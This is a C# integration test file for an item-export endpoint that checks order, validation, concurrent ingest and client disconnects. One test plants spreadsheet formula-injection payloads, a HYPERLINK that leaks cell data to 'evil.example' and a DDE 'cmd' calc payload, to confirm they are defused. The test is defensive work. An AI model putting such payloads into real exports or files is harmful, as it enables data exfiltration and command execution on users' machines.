using System.Net;
using System.Net.Sockets;
using System.Text;
using DocumentFormat.OpenXml.Spreadsheet;
using Herald.Api.Items;
using Herald.Tests.Oracle;
using Microsoft.Extensions.DependencyInjection;
using static Herald.Tests.Api.ItemFileKit;
using static Herald.Tests.Api.ItemSearchKit;

namespace Herald.Tests.Api;

/// <summary>
/// <c>GET /api/v1/exports/items</c> over real HTTP: each format holds the rows the search pages hold, in the same order with the
/// same values; cells that start like a formula are defused in CSV and XLSX; a client that goes away stops the export's read.
/// </summary>
public sealed class ItemExportTests(SharedServer shared) : IClassFixture<SharedServer>
{
    private async Task<(string TeamId, HttpClient Client, ReferenceModel Model)> TeamWithTrafficAsync(int seed, int items)
    {
        var (teamId, key) = await shared.Server.CreateTeamAsync($"export-{seed}-{Guid.NewGuid():n}");
        var model = new ReferenceModel();
        await PostAsync(shared.Server, model, new Dictionary<string, string> { ["x"] = key }, Stream(seed, ["x"], items), seed);
        return (teamId, shared.Server.Client(key), model);
    }

    private static async Task<(byte[] Body, HttpResponseMessage Response)> ExportAsync(HttpClient client, string query)
    {
        var response = await client.GetAsync("/api/v1/exports/items?" + query);
        var body = await response.Content.ReadAsByteArrayAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"export {query}: {(int)response.StatusCode} {Encoding.UTF8.GetString(body)}");
        return (body, response);
    }

    [Theory]
    [InlineData("csv", "text/csv")]
    [InlineData("ndjson", "application/x-ndjson")]
    [InlineData("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")]
    public async Task An_export_holds_the_rows_of_the_search_in_its_order(string format, string contentType)
    {
        var (_, client, model) = await TeamWithTrafficAsync(31 + format.Length, 500);
        string window = Query(Kit.Day.ToUnixTimeMilliseconds(), Kit.Day.AddDays(1).ToUnixTimeMilliseconds());
        foreach (var filter in new[] { "", "&status=failed,undelivered,delivered&provider=twilio,vonage", "&error_code=30007", "&campaign=none-such" })
        {
            var search = await AllPagesAsync(client, window + filter, 250);
            var (body, response) = await ExportAsync(client, $"{window}{filter}&format={format}");
            if (format == "xlsx")
            {
                using var package = DocumentFormat.OpenXml.Packaging.SpreadsheetDocument.Open(new MemoryStream(body), false);
                Assert.Equal("Items", Assert.Single(package.WorkbookPart!.Workbook.Sheets!.Elements<Sheet>()).Name!.Value);
            }
            Assert.Equal(contentType, response.Content.Headers.ContentType!.MediaType);
            var disposition = response.Content.Headers.ContentDisposition!;
            Assert.Equal("attachment", disposition.DispositionType);
            Assert.Matches(@"^items_\d{8}T\d{4}Z_\d{8}T\d{4}Z\." + format + "$", disposition.FileName!.Trim('"'));
            AssertSame(format, search, Rows(format, body));
            if (filter == "") Assert.Equal(Expected(model, "x", Kit.Day.ToUnixTimeMilliseconds(), Kit.Day.AddDays(1).ToUnixTimeMilliseconds()).Count, search.Count);
        }
        // csv is the default format.
        if (format == "csv")
        {
            var (body, _) = await ExportAsync(client, window);
            Assert.Equal(ItemFileKit.Columns, Encoding.UTF8.GetString(body).Split("\r\n")[0].Split(','));
        }
    }

    [Theory]
    [InlineData("format=pdf", "format")]
    [InlineData("format=", "format")]
    [InlineData("limit=10", "limit")]
    [InlineData("cursor=AAAAAAAAAAAAAAAAAAAAAA", "cursor")]
    [InlineData("status=sending", "status")]
    [InlineData("from=yesterday", "from")]
    public async Task Bad_export_parameters_are_400s_naming_the_parameter(string query, string field)
    {
        var (_, client) = await shared.NewTeamAsync();
        await Kit.AssertError(await client.GetAsync("/api/v1/exports/items?" + query), HttpStatusCode.BadRequest, field, "invalid_parameter");
    }

    /// <summary>Client-chosen text that a spreadsheet would run as a formula starts with an apostrophe in CSV and XLSX; NDJSON keeps it as sent.</summary>
    [Fact]
    public async Task Cells_that_start_like_a_formula_are_defused_in_csv_and_xlsx()
    {
        var (teamId, key) = await shared.Server.CreateTeamAsync($"formula-{Guid.NewGuid():n}");
        using var client = shared.Server.Client(key);
        const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
        await Kit.Ingest(client, new[]
        {
            new Dictionary<string, object> { ["item_id"] = "-1+1", ["kind"] = "message", ["status"] = "failed", ["occurred_at"] = Kit.At(30),
                ["campaign"] = Hyperlink, ["account"] = "-2+3", ["provider"] = "+cmd|' /C calc'!A0", ["error_code"] = "@SUM(1+1)",
                ["recipient"] = "+447700900123", ["channel"] = "sms" },
        });
        var expected = new Dictionary<string, string>
        {
            ["item_id"] = "'-1+1", ["campaign"] = "'" + Hyperlink, ["account"] = "'-2+3", ["provider"] = "'+cmd|' /C calc'!A0",
            ["error_code"] = "'@SUM(1+1)", ["recipient"] = "+447700900123", ["team"] = teamId,
        };
        foreach (var format in new[] { "csv", "xlsx" })
        {
            var row = Assert.Single(Rows(format, (await ExportAsync(client, $"{Kit.DayWindow}&format={format}")).Body));
            foreach (var (column, value) in expected) Assert.True(value == row[column], $"{format} {column}: '{row[column]}', expected '{value}'");
        }
        var raw = Assert.Single(Rows("ndjson", (await ExportAsync(client, $"{Kit.DayWindow}&format=ndjson")).Body));
        Assert.Equal(Hyperlink, raw["campaign"]);
        Assert.Equal("-2+3", raw["account"]);
    }

    /// <summary>
    /// Exported while ingest adds items across the window and late events move existing items' earliest events: every item
    /// that existed before comes exactly once, no item twice, and the rows stay newest first (read by one thread here, on
    /// two cores; <see cref="SlicedItemExportTests"/> reads in slices).
    /// </summary>
    [Fact]
    public Task An_export_read_while_ingest_runs_holds_each_earlier_item_once_in_order() => ExportWhileIngestingAsync(shared, "ndjson");

    /// <summary>
    /// Exports the window of a new team four times while ingest adds items across it and late events move existing items'
    /// earliest events into other parts of it: every item that existed before comes exactly once, no item twice, newest first.
    /// </summary>
    internal static async Task ExportWhileIngestingAsync(SharedServer shared, string format)
    {
        var (_, client) = await shared.NewTeamAsync();
        var start = Kit.Day.AddHours(1);
        const int Existing = 3_000; // about a dozen slices of the granule
        var before = Enumerable.Range(0, Existing).Select(i => Kit.Event($"old-{i}", "sent", Kit.Format(start.AddSeconds(i * 19)), provider: "twilio", channel: "sms")).ToArray();
        foreach (var chunk in before.Chunk(1000)) await Kit.Ingest(client, chunk);
        var existing = Enumerable.Range(0, Existing).Select(i => $"old-{i}").ToHashSet();

        using var stop = new CancellationTokenSource();
        int posted = 0;
        var ingest = Task.Run(async () =>
        {
            var rnd = new Random(11);
            for (int n = 0; !stop.IsCancellationRequested; n++)
            {
                var batch = new List<object>();
                for (int k = 0; k < 50; k++)
                {
                    batch.Add(Kit.Event($"new-{n}-{k}", "sent", Kit.Format(start.AddSeconds(rnd.Next(0, Existing * 19))), provider: "vonage"));
                    // An earlier event of an existing item: its earliest event, and so its place in the export, moves back.
                    int old = rnd.Next(Existing);
                    batch.Add(Kit.Event($"old-{old}", "queued", Kit.Format(start.AddSeconds(Math.Max(0, old * 19 - rnd.Next(1, 3000))))));
                }
                await Kit.Ingest(client, batch);
                Interlocked.Increment(ref posted);
                await Task.Delay(5);
            }
        });
        try
        {
            for (int run = 0; run < 4; run++)
            {
                int postedBefore = Volatile.Read(ref posted);
                var rows = Rows(format, (await ExportAsync(client, $"{Kit.DayWindow}&format={format}")).Body);
                var ids = rows.Select(r => r["item_id"]!).ToList();
                Assert.Equal(ids.Count, ids.Distinct().Count());
                var exported = ids.ToHashSet();
                Assert.DoesNotContain(existing, id => !exported.Contains(id));
                var earliest = rows.Select(r => DateTimeOffset.Parse(r["earliest_at"]!, System.Globalization.CultureInfo.InvariantCulture)).ToList();
                for (int i = 1; i < earliest.Count; i++) Assert.True(earliest[i] <= earliest[i - 1], $"row {i} is newer than the row before it");
                var deadline = DateTime.UtcNow.AddSeconds(30);
                while (Volatile.Read(ref posted) == postedBefore && DateTime.UtcNow < deadline) await Task.Delay(5);
                Assert.True(Volatile.Read(ref posted) > postedBefore, "no batch was posted during the export");
            }
        }
        finally
        {
            stop.Cancel();
            await ingest;
        }
    }

    /// <summary>
    /// A client with a small receive window reads the start of a large export and goes away: the server's export stops
    /// reading (observed in its export counters) long before the end, and the server goes on serving.
    /// </summary>
    [Fact]
    public async Task A_client_that_goes_away_stops_the_export()
    {
        var (_, key) = await shared.Server.CreateTeamAsync($"gone-{Guid.NewGuid():n}");
        using var client = shared.Server.Client(key);
        const int Items = 20_000;
        for (int chunk = 0; chunk < Items / 5000; chunk++)
            await Kit.Ingest(client, Enumerable.Range(chunk * 5000, 5000)
                .Select(i => Kit.Event($"bulk-{i:D6}", "sent", Kit.Format(Kit.Day.AddSeconds(3 + i * 4.1)), provider: "twilio", channel: "sms",
                    recipient: $"+4477009{i % 100000:D5}", cost: 0.0075)).ToArray());
        var exports = shared.Server.Services.GetRequiredService<ItemExports>();
        long stoppedBefore = exports.Stopped, completedBefore = exports.Completed;

        using (var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { ReceiveBufferSize = 4096 })
        {
            await socket.ConnectAsync(shared.Server.BaseAddress.Host, shared.Server.BaseAddress.Port);
            string request = $"GET /api/v1/exports/items?{Kit.DayWindow}&format=ndjson HTTP/1.1\r\nHost: {shared.Server.BaseAddress.Authority}\r\n" +
                             $"X-API-Key: {key}\r\nConnection: close\r\n\r\n";
            await socket.SendAsync(Encoding.ASCII.GetBytes(request));
            var buffer = new byte[4096];
            int read = 0;
            while (read < 32 * 1024)
            {
                int n = await socket.ReceiveAsync(buffer);
                Assert.True(n > 0, "the server closed the export early");
                if (read == 0) Assert.StartsWith("HTTP/1.1 200", Encoding.ASCII.GetString(buffer, 0, n));
                read += n;
            }
            // The export waits for this client: it is still running, not finished.
            await Task.Delay(500);
            Assert.Equal(1, exports.Running);
            Assert.Equal(completedBefore, exports.Completed);
            socket.LingerState = new LingerOption(true, 0); // close with a reset, as a killed client does
        }

        var deadline = DateTime.UtcNow.AddSeconds(20);
        while (exports.Running > 0 && DateTime.UtcNow < deadline) await Task.Delay(50);
        Assert.Equal(0, exports.Running);
        Assert.Equal(stoppedBefore + 1, exports.Stopped);
        Assert.Equal(completedBefore, exports.Completed);
        Assert.InRange(exports.LastRows, 1, Items / 2);

        // The server goes on: the same export, read to the end, completes with every row.
        var (body, _) = await ExportAsync(client, $"{Kit.DayWindow}&format=csv");
        Assert.Equal(Items + 1, Encoding.UTF8.GetString(body).Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length);
        Assert.Equal(completedBefore + 1, exports.Completed);
        Assert.Equal(Items, exports.LastRows);
    }
}

/// <summary>A server whose exports read one team's window in slices on three threads, whatever the machine's cores.</summary>
public sealed class SlicedExportServer : SharedServer
{
    protected override Dictionary<string, string?> Settings => new() { ["Herald:Exports:Readers"] = "3" };
}

/// <summary>
/// A team's export read by several threads, a slice of the window each, at one point of the store, and written in slice
/// order: exported while ingest runs, each format holds every earlier item once, newest first.
/// </summary>
public sealed class SlicedItemExportTests(SlicedExportServer shared) : IClassFixture<SlicedExportServer>
{
    [Theory]
    [InlineData("csv")]
    [InlineData("ndjson")]
    [InlineData("xlsx")]
    public Task An_export_read_in_slices_while_ingest_runs_holds_each_earlier_item_once_in_order(string format) =>
        ItemExportTests.ExportWhileIngestingAsync(shared, format);
}
